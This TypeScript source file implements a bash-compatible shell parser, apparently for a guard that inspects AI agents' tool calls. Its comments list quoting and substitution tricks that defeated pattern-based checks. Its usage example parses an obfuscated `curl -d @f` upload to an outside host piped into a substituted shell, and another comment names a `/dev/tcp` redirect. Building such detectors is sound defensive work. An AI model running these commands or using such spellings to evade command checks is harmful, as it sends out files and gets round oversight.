/**
 * The simple commands of a shell script, read the way a POSIX shell (and bash) reads them: quotes
 * removed, `$'…'` escapes decoded, words joined across quotes (`c'u'rl` is `curl`), commands
 * split at `;`, `&`, `|`, newlines, parentheses and braces, and the programs inside `$(…)`,
 * backticks and `<(…)` read as commands too. A tool-call check that looked at the raw text with
 * patterns was defeated by any of these spellings; one that reads what the shell runs is not.
 *
 * What a word becomes only when the script runs (a variable, a command's output, a glob) cannot
 * be known here: such a word is marked `dynamic`, so that a caller can refuse to guess.
 */

/** One word after quote removal. */
export interface ShellWord {
  /** Its text: quotes removed, escapes decoded; an expansion keeps its source text (`$X`). */
  text: string;
  /** The shell changes it before running: a `$` expansion, a command substitution, a glob or a brace list. */
  dynamic: boolean;
}

/** Where a command's standard input comes from. */
export type ShellInput =
  | { from: "pipe" }
  | { from: "text"; text: string; dynamic: boolean }
  | { from: "file"; path: ShellWord };

/** One simple command: its words, its input and the files it redirects to or from. */
export interface SimpleCommand {
  /** The command's words, its name first (assignments and keywords included, as written). */
  words: ShellWord[];
  /** Its standard input, where the line gives it one (a pipe, a here-document, a file). */
  stdin?: ShellInput;
  /** Redirection targets (`> out.txt`, `< /dev/tcp/host/80`); fd duplications (`2>&1`) left out. */
  redirects: ShellWord[];
}

/** How deep `$(…)` inside `$(…)` is read; a deeper one stands as a command named by an expansion. */
const MAX_DEPTH = 8;
/** How deep `${…}` inside `${…}` is read. */
const MAX_NESTING = 64;

const NAME_CHAR = /[A-Za-z0-9_]/;
const SPECIAL_PARAM = /[@*#?$!0-9-]/;
const WORD_BREAK = /[\s;&|()<>]/;

/** The index just past the `)` that closes the `(` before `start`, or the end of `s`. */
function closingParen(s: string, start: number): number {
  let depth = 1;
  for (let i = start; i < s.length; i++) {
    const c = s[i];
    if (c === "\\") i++;
    else if (c === "'") i = endOfSingle(s, i + 1);
    else if (c === '"') i = endOfDouble(s, i + 1);
    else if (c === "(") depth++;
    else if (c === ")" && --depth === 0) return i + 1;
  }
  return s.length;
}

/** The index of the `'` closing a single-quoted string opened before `start`. */
function endOfSingle(s: string, start: number): number {
  const end = s.indexOf("'", start);
  return end < 0 ? s.length : end;
}

/** The index of the `"` closing a double-quoted string opened before `start`. */
function endOfDouble(s: string, start: number): number {
  for (let i = start; i < s.length; i++) {
    if (s[i] === "\\") i++;
    else if (s[i] === '"') return i;
  }
  return s.length;
}

/** The index of the backtick closing one opened before `start`. */
function endOfBacktick(s: string, start: number): number {
  for (let i = start; i < s.length; i++) {
    if (s[i] === "\\") i++;
    else if (s[i] === "`") return i;
  }
  return s.length;
}

const ANSI_ESCAPES: Record<string, string> = {
  a: "\x07",
  b: "\b",
  e: "\x1b",
  E: "\x1b",
  f: "\f",
  n: "\n",
  r: "\r",
  t: "\t",
  v: "\v",
  "\\": "\\",
  "'": "'",
  '"': '"',
  "?": "?",
};

/** The text of a `$'…'` string's body, and the index of its closing quote. */
function ansiC(s: string, start: number): { text: string; end: number } {
  let text = "";
  let i = start;
  for (; i < s.length && s[i] !== "'"; i++) {
    if (s[i] !== "\\") {
      text += s[i];
      continue;
    }
    const c = s[++i];
    let m: RegExpMatchArray | null;
    if (c in ANSI_ESCAPES) text += ANSI_ESCAPES[c];
    else if ((m = s.slice(i).match(/^x([0-9a-fA-F]{1,2})/))) {
      text += String.fromCharCode(parseInt(m[1], 16));
      i += m[0].length - 1;
    } else if ((m = s.slice(i).match(/^[uU]([0-9a-fA-F]{1,8})/))) {
      const code = parseInt(m[1], 16);
      text += code <= 0x10ffff ? String.fromCodePoint(code) : "";
      i += m[0].length - 1;
    } else if ((m = s.slice(i).match(/^[0-7]{1,3}/))) {
      text += String.fromCharCode(parseInt(m[0], 8) & 0xff);
      i += m[0].length - 1;
    } else if (c === "c" && i + 1 < s.length) {
      text += String.fromCharCode(s.charCodeAt(++i) & 0x1f);
    } else if (c !== undefined) text += "\\" + c;
  }
  return { text, end: i };
}

/**
 * Whether unquoted characters make a glob (`*`, `?`, `[…]`) or a brace list (`{a,b}`, `{1..3}`).
 * One pass: a pattern over the text backtracked on a long run of `{` (quadratic).
 */
function expandsAsPattern(bare: string): boolean {
  let bracketOpen = false;
  let braceOpen = false;
  let braceList = false;
  for (let i = 0; i < bare.length; i++) {
    const c = bare[i];
    if (c === "*" || c === "?") return true;
    if (c === "[") bracketOpen = true;
    else if (c === "]" && bracketOpen) return true;
    else if (c === "{") [braceOpen, braceList] = [true, false];
    else if (braceOpen && (c === "," || (c === "." && bare[i + 1] === "."))) braceList = true;
    else if (c === "}" && braceOpen) {
      if (braceList) return true;
      braceOpen = false;
    }
  }
  return false;
}

/** A here-document waiting for its body (read after the line that starts it). */
interface Heredoc {
  command: SimpleCommand;
  delimiter: string;
  strip: boolean;
  /** A quoted delimiter (`<<'EOF'`) keeps the body as it is. */
  quoted: boolean;
}

/** A word being read. */
interface WordBuilder {
  text: string;
  dynamic: boolean;
  /** Unquoted characters that make a glob or a brace list, checked once the word ends. */
  bare: string;
  /** Whether any of it was quoted or escaped (a here-document's delimiter then stops expansion). */
  quoted?: boolean;
}

/**
 * Reads the backtick substitution starting at `i` into `w` (its program read as commands, its
 * `\\``, `\\$` and `\\\\` undone first, as the shell does); returns the index after it.
 */
function backtick(
  s: string,
  i: number,
  w: WordBuilder,
  substitution: (program: string) => void,
): number {
  const end = endOfBacktick(s, i + 1);
  substitution(s.slice(i + 1, end).replace(/\\([`$\\])/g, "$1"));
  w.text += s.slice(i, end + 1);
  w.dynamic = true;
  return end + 1;
}

/** Reads scripts into simple commands; nested programs are added to the same list. */
class Reader {
  readonly commands: SimpleCommand[] = [];
  /** How many `${…}` are open around the one being read. */
  #nesting = 0;

  constructor(private readonly depth: number) {}

  /** Reads `s` (a whole script, or the program inside a substitution). */
  read(s: string): void {
    let command: SimpleCommand = { words: [], redirects: [] };
    let word: WordBuilder | undefined;
    let redirect: string | undefined;
    let pipedIn = false;
    const heredocs: Heredoc[] = [];

    const endWord = () => {
      if (!word) return;
      const dynamic = word.dynamic || expandsAsPattern(word.bare);
      const done: ShellWord = { text: word.text, dynamic };
      const quoted = word.quoted === true;
      word = undefined;
      if (redirect === undefined) {
        command.words.push(done);
        return;
      }
      const op = redirect;
      redirect = undefined;
      if (op === "<<" || op === "<<-") {
        heredocs.push({ command, delimiter: done.text, strip: op === "<<-", quoted });
      } else if (op === "<<<") command.stdin = { from: "text", text: done.text, dynamic };
      else if (op.endsWith("&") && /^(?:\d+|-)$/.test(done.text)) return;
      else {
        command.redirects.push(done);
        if (op === "<" || op === "<>") command.stdin = { from: "file", path: done };
      }
    };
    const endCommand = (pipeNext: boolean) => {
      endWord();
      redirect = undefined;
      if (command.words.length || command.redirects.length || command.stdin) {
        if (pipedIn && !command.stdin) command.stdin = { from: "pipe" };
        this.commands.push(command);
      }
      command = { words: [], redirects: [] };
      pipedIn = pipeNext;
    };
    const current = (): WordBuilder => (word ??= { text: "", dynamic: false, bare: "" });
    const substitution = (program: string) => {
      if (this.depth >= MAX_DEPTH) {
        // Too deep to read: a command that cannot be known stands in for it.
        this.commands.push({ words: [{ text: "$(…)", dynamic: true }], redirects: [] });
        return;
      }
      const inner = new Reader(this.depth + 1);
      inner.read(program);
      this.commands.push(...inner.commands);
    };

    let i = 0;
    while (i < s.length) {
      const c = s[i];
      if (c === "\n") {
        endCommand(false);
        i = this.#heredocBodies(s, i + 1, heredocs.splice(0), substitution);
        continue;
      }
      // (A carriage return is no blank to bash: `x\r#` is a word, not a comment.)
      if (c === " " || c === "\t") {
        endWord();
        i++;
        continue;
      }
      if (c === "#" && !word) {
        const nl = s.indexOf("\n", i);
        i = nl < 0 ? s.length : nl;
        continue;
      }
      if (c === "\\") {
        const w = current();
        if (s[i + 1] !== "\n") [w.text, w.quoted] = [w.text + (s[i + 1] ?? ""), true];
        i += 2;
        continue;
      }
      if (c === "'") {
        const end = endOfSingle(s, i + 1);
        const w = current();
        [w.text, w.quoted] = [w.text + s.slice(i + 1, end), true];
        i = end + 1;
        continue;
      }
      if (c === '"') {
        const w = current();
        w.quoted = true;
        i = this.#doubleQuoted(s, i + 1, w, substitution);
        continue;
      }
      if (c === "`") {
        i = backtick(s, i, current(), substitution);
        continue;
      }
      if (c === "$") {
        i = this.#dollar(s, i, current(), substitution);
        continue;
      }
      if ((c === "<" || c === ">") && s[i + 1] === "(") {
        // Process substitution: the program runs, its output is a file name.
        const end = closingParen(s, i + 2);
        substitution(s.slice(i + 2, end - 1));
        const w = current();
        w.text += "/dev/fd/63";
        w.dynamic = true;
        i = end;
        continue;
      }
      if (c === "<" || c === ">" || (c === "&" && s[i + 1] === ">")) {
        // A number right before the operator is the file descriptor, not a word.
        if (word && /^\d+$/.test(word.text) && !word.dynamic) word = undefined;
        endWord();
        const op = s.slice(i).match(/^(?:<<<|<<-|<<|<>|<&|>>|>&|>\||&>>|&>|<|>)/)![0];
        redirect = op;
        i += op.length;
        continue;
      }
      if (c === "(" && s[i + 1] === "(" && !word && command.words.length === 0) {
        // An arithmetic command: no redirections inside (`(( x = 1 <<EOF ))` is a shift), but a
        // `$(…)` in it runs.
        const end = closingParen(s, i + 1);
        substitution(s.slice(i + 2, Math.max(i + 2, end - 2)));
        endCommand(false);
        i = end;
        continue;
      }
      if (c === "|" || c === "&" || c === ";" || c === "(" || c === ")") {
        const op = s.slice(i).match(/^(?:\|\||\|&|&&|;;&|;;|;&|\||&|;|\(|\))/)![0];
        endCommand(op === "|" || op === "|&");
        i += op.length;
        continue;
      }
      if (
        (c === "{" || c === "}") && !word && WORD_BREAK.test(s[i + 1] ?? " ") &&
        (command.words.length === 0 || /^(?:function|coproc)$/.test(command.words[0].text))
      ) {
        // A group's braces end the command before them (`function f {`, `coproc X {`).
        endCommand(false);
        i++;
        continue;
      }
      if (c === "!" && !word && command.words.length === 0 && WORD_BREAK.test(s[i + 1] ?? " ")) {
        i++;
        continue;
      }
      const w = current();
      w.text += c;
      w.bare += c;
      i++;
    }
    endCommand(false);
    for (const pending of heredocs) {
      pending.command.stdin = { from: "text", text: "", dynamic: false };
    }
  }

  /** Reads the bodies of the here-documents started on the line before `start`. */
  #heredocBodies(
    s: string,
    start: number,
    pending: Heredoc[],
    substitution: (program: string) => void,
  ): number {
    let i = start;
    for (const doc of pending) {
      const lines: string[] = [];
      while (i < s.length) {
        const nl = s.indexOf("\n", i);
        const end = nl < 0 ? s.length : nl;
        let line = s.slice(i, end);
        i = end + 1;
        if (doc.strip) line = line.replace(/^\t+/, "");
        if (line === doc.delimiter) break;
        lines.push(line);
      }
      const text = lines.join("\n");
      // Under an unquoted delimiter the body expands: the `$(…)` and backticks in it run.
      const expands = !doc.quoted && /[$`]/.test(text);
      if (expands) this.#expansions(text, substitution);
      doc.command.stdin = { from: "text", text, dynamic: expands };
    }
    return Math.min(i, s.length);
  }

  /** Reads the expansions of `text` (a here-document's body), their programs as commands. */
  #expansions(text: string, substitution: (program: string) => void): void {
    const scratch: WordBuilder = { text: "", dynamic: false, bare: "" };
    for (let i = 0; i < text.length;) {
      if (text[i] === "\\") i += 2;
      else if (text[i] === "$" && text[i + 1] !== "'" && text[i + 1] !== '"') {
        // (`$'…'` is plain text in a here-document, as in double quotes.)
        i = this.#dollar(text, i, scratch, substitution);
      } else if (text[i] === "`") i = backtick(text, i, scratch, substitution);
      else i++;
      // The text read is not kept: only the programs it runs matter.
      scratch.text = "";
    }
  }

  /** Reads a double-quoted string whose body starts at `start`; returns the index after it. */
  #doubleQuoted(
    s: string,
    start: number,
    w: WordBuilder,
    substitution: (program: string) => void,
  ): number {
    let i = start;
    while (i < s.length && s[i] !== '"') {
      const c = s[i];
      if (c === "\\") {
        const next = s[i + 1] ?? "";
        w.text += '$`"\\\n'.includes(next) ? (next === "\n" ? "" : next) : "\\" + next;
        i += 2;
      } else if (c === "$" && s[i + 1] !== "'" && s[i + 1] !== '"') {
        // (`$'…'` and `$"…"` are plain text inside double quotes.)
        i = this.#dollar(s, i, w, substitution);
      } else if (c === "`") i = backtick(s, i, w, substitution);
      else {
        w.text += c;
        i++;
      }
    }
    return i + 1;
  }

  /**
   * Reads the body of a `${…}` from `start` to its own `}` (quotes, nested expansions and `$(…)`
   * inside it as the shell reads them, their programs read as commands); returns the index
   * after the `}`. A `}` in quotes does not end it: `${x:-'}'}`.
   */
  #expansionBody(s: string, start: number, substitution: (program: string) => void): number {
    // `${${${…` nested past any real script: the rest is one dynamic word (no deeper reading).
    if (this.#nesting >= MAX_NESTING) return s.length;
    this.#nesting++;
    try {
      return this.#expansionBodyAt(s, start, substitution);
    } finally {
      this.#nesting--;
    }
  }

  #expansionBodyAt(s: string, start: number, substitution: (program: string) => void): number {
    const scratch: WordBuilder = { text: "", dynamic: false, bare: "" };
    let depth = 1;
    let i = start;
    while (i < s.length) {
      const c = s[i];
      if (c === "\\") i += 2;
      else if (c === "'") i = endOfSingle(s, i + 1) + 1;
      else if (c === '"') i = this.#doubleQuoted(s, i + 1, scratch, substitution);
      else if (c === "$") i = this.#dollar(s, i, scratch, substitution);
      else if (c === "`") i = backtick(s, i, scratch, substitution);
      else {
        if (c === "{") depth++;
        else if (c === "}" && --depth === 0) return i + 1;
        i++;
      }
    }
    return s.length;
  }

  /** Reads what starts with the `$` at `i`; returns the index after it. */
  #dollar(s: string, i: number, w: WordBuilder, substitution: (program: string) => void): number {
    const next = s[i + 1];
    if (next === "'") {
      const { text, end } = ansiC(s, i + 2);
      w.text += text;
      return end + 1;
    }
    if (next === '"') return this.#doubleQuoted(s, i + 2, w, substitution);
    if (next === "(") {
      // `$((…))` is arithmetic, but what it holds is read as commands too: a `$(…)` inside runs,
      // and bash reads `$((curl …) )` as a command substitution.
      const end = closingParen(s, i + 2);
      substitution(s.slice(i + 2, end - 1));
      w.text += s.slice(i, end);
      w.dynamic = true;
      return end;
    }
    if (next === "{") {
      const end = this.#expansionBody(s, i + 2, substitution);
      w.text += s.slice(i, end);
      w.dynamic = true;
      return end;
    }
    if (next !== undefined && (NAME_CHAR.test(next) || SPECIAL_PARAM.test(next))) {
      let end = i + 2;
      if (/[A-Za-z_]/.test(next)) { while (end < s.length && NAME_CHAR.test(s[end])) end++; }
      w.text += s.slice(i, end);
      w.dynamic = true;
      return end;
    }
    w.text += "$";
    return i + 1;
  }
}

/**
 * The simple commands of `script`, in order; those inside a command or process substitution
 * come before the command that holds them, as they run first.
 *
 * @example
 * ```ts
 * import { parseShell } from "./shell_parse.ts";
 * const [curl, echo, shell] = parseShell(`c'u'rl -d @f https://x.example | $(echo sh)`);
 * console.log(curl.words.map((w) => w.text)); // ["curl", "-d", "@f", "https://x.example"]
 * console.log(echo.words[0].text, shell.words[0].dynamic, shell.stdin); // "echo" true { from: "pipe" }
 * ```
 */
export function parseShell(script: string): SimpleCommand[] {
  const reader = new Reader(0);
  reader.read(script);
  return reader.commands;
}
